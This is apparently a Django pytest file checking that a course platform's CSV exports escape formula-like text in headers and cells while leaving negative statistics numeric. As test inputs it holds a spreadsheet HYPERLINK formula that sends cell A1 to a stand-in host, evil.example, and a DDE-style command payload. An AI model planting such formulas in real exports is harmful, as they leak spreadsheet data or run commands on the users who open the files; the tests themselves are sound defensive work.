"""CSV exports: headers are formula-safe like cells, and numbers stay numbers (issue 12).

A theme's name is a column header of the results CSV; before, only cells were neutralised.
Every cell starting with "-" was prefixed too, so a negative discrimination came out as
the text "'-0.839" and an instructor could not sort by it."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from classes import services
from classes.exports import safe_cell
from content.models import Content, Theme
from quizzes import attempts as quiz
from tests.helpers import make_user
from tests.helpers.classes import enrol, make_assignment, make_class

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def read_csv(resp) -> list[list[str]]:
    assert resp.status_code == 200 and resp["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))


def test_safe_cell_neutralises_formulas_and_keeps_numbers():
    for text in ("=1+1", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", " =1+1",
                 "＝1+1", "-1+2", "-0.839e", "--1"):
        assert safe_cell(text) == "'" + text, text
    for number in ("-0.839", "-1", "+3", "0.500", "-.5", "1e-3", "-2E+4", -0.839, -3, 0):
        assert safe_cell(number) == number, number
    for text in ("王小明", "3.1", "a=b", ""):
        assert safe_cell(text) == text


@pytest.fixture
def reversed_item(guide, instructor):
    """An assignment of three guide questions whose first one only the weaker learners got
    right: its discrimination indices are negative."""
    klass = make_class(instructor, "Class CSV")
    assignment = make_assignment(klass, kind="guide", count=3, max_attempts=1)
    for i in range(6):
        user = make_user(f"csv{i}")
        enrol(klass, user)
        attempt = services.start_assignment(user, assignment)
        items = list(attempt.items.select_related("version").order_by("position"))
        right = [it.version.answer for it in items]
        wrong = [next(lab for lab in "ABCD" if lab != it.version.answer) for it in items]
        strong = i < 3  # strong learners miss question 1 and get the rest right
        labels = [wrong[0], right[1], right[2]] if strong else [right[0], wrong[1], wrong[2]]
        for item, label in zip(items, labels, strict=True):
            quiz.save_answer(user, attempt.pk, item.position, item.order.index(label) + 1)
        quiz.submit(attempt)
    return klass, assignment


def test_item_csv_keeps_negative_discrimination_numeric(reversed_item, client, instructor):
    klass, assignment = reversed_item
    client.force_login(instructor)
    for url in (reverse("classes:items_csv", args=[assignment.pk]),
                reverse("classes:class_items_csv", args=[klass.pk])):
        _header, *rows = read_csv(client.get(url))
        first = rows[0]
        figures = [first[6], first[7]]  # corrected point-biserial, upper-lower D
        assert all(f.startswith("-") for f in figures), figures
        assert [float(f) for f in figures] == [-1.0, -1.0]  # a number, not "'-1.000"


def test_theme_and_content_names_are_formula_safe_in_headers_and_cells(
        reversed_item, client, instructor):
    _klass, assignment = reversed_item
    Theme.objects.filter(subject__key="s2").update(name=FORMULA)
    Content.objects.filter(theme__subject__key="s2").update(name="-" + FORMULA)
    client.force_login(instructor)
    header, *rows = read_csv(client.get(reverse("classes:results_csv", args=[assignment.pk])))
    theme_cols = [h for h in header if h.endswith("(%)")]
    assert theme_cols and all(h == f"'{FORMULA} (%)" for h in theme_cols), theme_cols
    assert not any(h.startswith(("=", "+", "-", "@")) for h in header)
    header, *rows = read_csv(client.get(reverse("classes:items_csv", args=[assignment.pk])))
    assert {r[2] for r in rows} == {"'-" + FORMULA}
